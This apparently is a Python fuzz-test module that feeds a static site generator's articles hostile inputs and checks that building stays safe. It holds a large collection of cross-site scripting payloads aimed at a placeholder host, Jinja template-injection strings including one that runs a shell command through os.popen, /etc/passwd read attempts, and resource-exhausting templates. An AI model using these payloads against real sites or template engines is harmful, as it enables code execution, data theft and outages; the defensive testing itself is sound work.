"""Articles that try to get out: of the template, of Markdown, of the page, of time and of memory."""

import random
from collections.abc import Iterator
from dataclasses import dataclass

from tests.attack.ground import CANARY, Ground
from tests.attack.outcomes import Outcome
from tests.attack.values import TEXTS

FILE = "content/articles/water-off.md"
OPENED = ("<", "&lt;", "\\<", "{{ '<' }}", "{{ '&lt;' | safe }}", "{{ '<' | safe }}", "{{ '%c' % 60 }}", "{{ '%c' % 60 | safe }}", "{{ '\\x3c' }}", "{% raw %}<{% endraw %}",
          "{{ '\\u003c' | safe }}", "<{# #}", "<{{ '' }}", "<{% if true %}{% endif %}", "< ", "<\n", "<\t", "&#60;", "&#x3c;", "＜", "{{ '<' | forceescape }}", "{{ ('<',) | join }}",
          "{{ namespace(a='<').a }}", "{{ {'a': '<'} | tojson }}", "{{ '<' | xmlattr }}", "{{ {'a><': 1} | xmlattr }}", "{{ '<' | e | striptags }}", "{{ '&lt;' | striptags }}", "{{ '< a' | urlize }}", "<!",
          "<!-- -->\n<", "``\n<", "</p>\n<", "\n\n<", "    <", "> <", "- <", "| <", "1. <", "[<", "*<")  # fmt: skip
SPLIT = ("", "{# #}", "{{ '' }}", "{% if true %}{% endif %}", "\n", "\t", "/", "\x0c", "\r\n")
ELEMENTS = ("script>attack()</script", "ScRiPt>attack()</ScRiPt", "script src=//attack.example/a.js></script", "img src=x onerror=attack()", "img/src=x/onerror=attack()", "svg onload=attack()", "svg><script>attack()</script></svg",
            "iframe src=//attack.example", "iframe srcdoc='<script>attack()</script>'", "meta http-equiv=refresh content='0;url=//attack.example'", "form action=//attack.example><input name=attack", "base href=//attack.example/",
            "link rel=stylesheet href=//attack.example/a.css", "style>body{display:none}</style", "object data=//attack.example", "embed src=//attack.example", "a href=javascript:attack()>attack</a", "a href='//attack.example' ping='//attack.example'>attack</a",
            "body onload=attack()", "div style='position:fixed;inset:0'>attack</div", "details open ontoggle=attack()", "video src=x onerror=attack()", "math><mtext><script>attack()</script></math", "template><script>attack()</script></template",
            "noscript><p title='</noscript><img src=x onerror=attack()>'", "button formaction=//attack.example>attack</button", "img srcset='//attack.example/a.png 1x'", "picture><source srcset=//attack.example/a.png>", "input autofocus onfocus=attack()",
            "svg><use href=//attack.example/a.svg#b /></svg", "svg><animate onbegin=attack() attributeName=x dur=1s></svg", "marquee onstart=attack()", "xmp><script>attack()</script>", "plaintext>attack")  # fmt: skip
MARKDOWN = ("[attack](javascript:attack())", "[attack](JaVaScRiPt:attack())", "[attack](java\nscript:attack())", "[attack](java&#10;script:attack())", "[attack](&#106;avascript:attack())", "[attack](javascript&colon;attack())", "[attack]( javascript:attack())",
            "[attack](data:text/html,<script>attack()</script>)", "[attack](vbscript:attack())", "[attack](//attack.example)", "![attack](//attack.example/a.png)", "![attack](https://attack.example/a.png)", "![attack](javascript:attack())", "![a\" onerror=\"attack()](x.png)",
            "[attack][1]\n\n[1]: javascript:attack()", "[attack][1]\n\n[1]: https://attack.example \"attack' onmouseover='attack()\"", "<javascript:attack()>", "<https://attack.example>", "<attack@attack.example>", "attack\n{: onclick=attack() }",
            "# attack {: onclick=attack() style='display:none' }", "[attack](x){: onclick=attack() }", "*attack*{: .x onmouseover=attack() }", "attack\n{: id=content }", "attack{ srcset=//attack.example/a.png }", "<div markdown>\nattack\n</div>", "<div markdown=1>",
            "![attack](../../../../etc/passwd)", "![attack](file:///etc/passwd)", "[attack](file:///etc/passwd)", "[attack](article:../../attack)", "[attack](page:attack)", "[attack](equipment:stopcock\" onclick=\"attack())", "[attack](article:\"><script>attack()</script>)",
            "attack\n:   attack", "| attack |\n| --- |\n| <b onclick=attack()> |", "```html\n<script>attack()</script>\n```", "`<script>attack()</script>`", "[TOC]", "[^1]\n\n[^1]: <script>attack()</script>", "*[attack]: <script>attack()</script>", "--8<-- \"/etc/passwd\"",
            "!!! attack \"<script>attack()</script>\"", ":material-attack:", "{++attack++}", "==attack==", "\\<script\\>attack()\\</script\\>", "&lt;script&gt;attack()&lt;/script&gt;", "&amp;lt;script&amp;gt;", "\x02attack\x03", "\x02amp\x03", "klzzwxh:0000", "wzxhzdk:0",
            "STX", "\u0002klzzwxh:0001\u0003", "[attack](<javascript:attack()>)", "[attack](\"javascript:attack()\")", "[![attack](x)](javascript:attack())", "***[attack](javascript:attack())***")  # fmt: skip
TEMPLATES = ("{{ home }}", "{{ home | string }}", "{{ home | pprint }}", "{{ home.__class__ }}", "{{ home | attr('__class__') }}", "{{ home['__class__'] }}", "{{ equipment[0] }}", "{{ equipment | string }}", "{{ pieces }}", "{{ contacts }}", "{{ contacts | string }}", "{{ words }}", "{{ has_article }}",
             "{{ self }}", "{{ self._TemplateReference__context }}", "{{ loop }}", "{{ caller }}", "{{ varargs }}", "{{ cycler }}", "{{ joiner }}", "{{ namespace }}", "{{ namespace() | string }}", "{{ range }}", "{{ dict }}", "{{ lipsum() }}", "{{ lipsum.__globals__ }}",
             "{{ cycler.__init__.__globals__.os.popen('touch " + CANARY + "') }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ ''['__class__'] }}", "{{ 'a'.format.__globals__ }}", "{{ '{0.__class__.__init__.__globals__}'.format(home) }}", "{{ '{0.__class__}'.format_map({'0': home}) }}",
             "{{ ('{0.__class__}' | format(home)) }}", "{{ '%s' | format(home) }}", "{{ ['a'] | map(attribute='__class__') | list }}", "{{ [home] | map(attribute='__class__') | list }}", "{{ [home] | groupby('__class__') }}", "{{ [home] | sort(attribute='__class__') }}", "{{ [home] | sum(attribute='__class__') }}",
             "{{ [home] | selectattr('__class__') | list }}", "{{ home | list }}", "{{ home | tojson }}", "{{ home | items | list }}", "{{ home.model_dump() }}", "{{ home.model_dump_json() }}", "{{ home.copy() }}", "{{ home.equipment.stopcock.model_fields }}", "{{ home.plot.serials }}", "{{ home.model_config }}",
             "{% import 'os' as os %}", "{% include '/etc/passwd' %}", "{% include 'finishes.md' %}", "{% extends 'main.html' %}", "{% from 'x' import y %}", "{% set home = 1 %}{{ home }}", "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}", "{% block attack %}{% endblock %}", "{% autoescape false %}<b>{% endautoescape %}",
             "{% filter safe %}<script>attack()</script>{% endfilter %}", "{% filter upper %}<script>attack()</script>{% endfilter %}", "{% call words() %}{% endcall %}", "{% do equipment.append(1) %}", "{% debug %}", "{% trans %}a{% endtrans %}", "{{ '<b>' | safe }}", "{{ ('<b>' | e) | safe }}",
             "{{ '<b>'.__html__() }}", "{{ equipment[0].where.__class__ }}", "{{ equipment[0].facts.__class__ }}", "{{ none }}", "{{ none.a }}", "{{ undefined.a.b }}", "{{ 1 / 0 }}", "{{ 'a' + 1 }}", "{{ [] | first }}", "{{ [1, 'a'] | sort }}", "{{ 'a' | int / 0 }}", "{{ (1, 2)[9] }}", "{{ {}['a'] }}", "{{ 'a' | nothing }}",
             "{% if home is nothing %}{% endif %}", "{{", "{%", "{#", "}}", "{% endif %}", "{% for %}", "{{ 'a }}", "{{ a b }}", "{{ }}", "{% set %}", "{{ 'a' | replace('a', '<script>') }}", "{{ 'c' | center(90) }}", "{{ now() }}", "{{ random() }}", "{{ range(9) | random }}", "{{ 'b,a' | shuffle }}", "{{ [3,1] | unique | list }}")  # fmt: skip
EXHAUSTING = ("{% for a in range(10**9) %}x{% endfor %}", "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}", "{{ 'a' * 10**9 }}", "{{ 'a' * 10**10 }}", "{{ 10 ** 10 ** 8 }}", "{{ 9 ** 9 ** 9 }}", "{{ '%9999999999d' % 1 }}", "{{ '{:9999999999}'.format(1) }}", "{{ 'a' | center(10**10) }}",
              "{{ 'a' | indent(10**9) }}", "{{ 'ab' | wordwrap(1) * 10**8 }}", "{{ [1] * 10**9 }}", "{{ ('a' * 9999) | replace('a', 'a' * 99999) }}", "{% set n = namespace(a='a') %}{% for i in range(60) %}{% set n.a = n.a + n.a %}{% endfor %}{{ n.a }}", "{% set n = namespace(a=9) %}{% for i in range(60) %}{% set n.a = n.a * n.a %}{% endfor %}{{ n.a }}",
              "{{ range(10**8) | list | length }}", "{{ range(10**7) | join }}", "{{ range(99999) | batch(1) | list | string }}", "{% for a in range(9999) recursive %}{{ loop([a]) }}{% endfor %}", "{% macro a(n) %}{{ a(n + 1) }}{% endmacro %}{{ a(0) }}", "((((((((((" * 3000, "[" * 20_000, "*" * 50_000, "> " * 5_000 + "a", "- " * 5_000 + "a",
              "`" * 30_001, "<" * 30_000, "![" * 9_000, "a\n" * 90_000, "| a " * 9_000 + "\n" + "| --- " * 9_000, "{{ " + "(" * 900 + "1" + ")" * 900 + " }}", "{{ " + "not " * 9_000 + "1 }}", "{{ " + "1 + " * 9_000 + "1 }}", "{% if 1 %}" * 900 + "{% endif %}" * 900, "# a\n" * 20_000, "[a](b)" * 20_000, "&" * 90_000, "\\" * 90_000)  # fmt: skip


@dataclass(frozen=True, slots=True)
class ArticleTry:
    """A text in the body of an article, or in one of the texts above it."""

    text: str
    place: str

    @property
    def name(self) -> str:
        return f"{self.place}: {self.text[:120]!r}"

    def make(self, ground: Ground) -> tuple[Outcome, str]:
        before = ground.before[FILE].decode()
        if self.place == "body":
            ground.write(FILE, f"{before}\nattack\n\n{self.text}\n")
        else:
            quoted = "".join(f"\\u{ord(each):04x}" if ord(each) < 0x10000 else f"\\U{ord(each):08x}" for each in self.text)  # fmt: skip
            old = {"title": "Turn off your water", "summary": "Where your stopcock is.", "action": "Turn the stopcock clockwise."}[self.place]  # fmt: skip
            ground.write(FILE, before.replace(old, f'"attack {quoted}"', 1))
        return ground.checked_and_built()


def tries(rng: random.Random, number: int) -> Iterator[ArticleTry]:
    """So many texts: each by itself first, then elements opened and split in all the ways there are."""
    alone = [*MARKDOWN, *TEMPLATES, *TEXTS]
    rng.shuffle(alone)
    exhausting = list(EXHAUSTING)
    for turn in range(number):
        if turn % 40 == 39:
            yield ArticleTry(exhausting[turn // 40 % len(exhausting)], "body")
        elif turn % 3 == 0 and alone:
            yield ArticleTry(alone[turn // 3 % len(alone)], "body")
        elif turn % 11 == 1:
            yield ArticleTry(rng.choice([*alone, *map(_element(rng), ELEMENTS)]), rng.choice(("title", "summary", "action")))  # fmt: skip
        else:
            yield ArticleTry(_element(rng)(rng.choice(ELEMENTS)), "body")


def _element(rng: random.Random):  # type: ignore[no-untyped-def]
    """Writes an element in one of the ways that a reader of texts may overlook."""

    def written(element: str) -> str:
        opened, split = rng.choice(OPENED), rng.choice(SPLIT)
        place = rng.randrange(1, 4)
        body = element[:place] + split + element[place:] if rng.random() < 0.5 else element
        if rng.random() < 0.2:
            body = f"{{{{ '{body[:place]}' }}}}{body[place:]}"
        ended = rng.choice((">", "{{ '>' }}", "&gt;", "{# #}>", "\n>", "", " >"))
        before = rng.choice(("", "", "text ", "- ", "> ", "| ", "# ", "**", "`", "[", "\\"))
        return f"{before}{opened}{body}{ended}"

    return written
